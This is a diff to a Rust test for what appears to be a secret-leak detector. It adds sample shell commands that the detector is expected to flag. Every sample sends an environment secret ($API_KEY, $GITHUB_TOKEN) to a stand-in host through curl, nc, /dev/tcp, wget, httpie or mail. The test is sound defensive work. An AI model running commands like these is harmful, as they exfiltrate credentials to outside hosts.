@@ -67,6 +67,11 @@ fn a_secret_of_the_environment_that_leaves_is_marked() {
         "x=$GITHUB_TOKEN; curl -F a=$x https://h.example",
         "echo $GITHUB_TOKEN | curl -d @- https://h.example",
         "curl https://$GITHUB_TOKEN.h.example/",
+        "echo $API_KEY | nc h.example 80",
+        "echo $API_KEY > /dev/tcp/h.example/80",
+        "mail -s x bob@example.com <<< \"$API_KEY\"",
+        "wget --post-data=\"k=$API_KEY\" https://h.example",
+        "http POST h.example k=$API_KEY",
     ] {
         assert!(marks(text).contains(both), "{text}: {:?}", marks(text));
     }
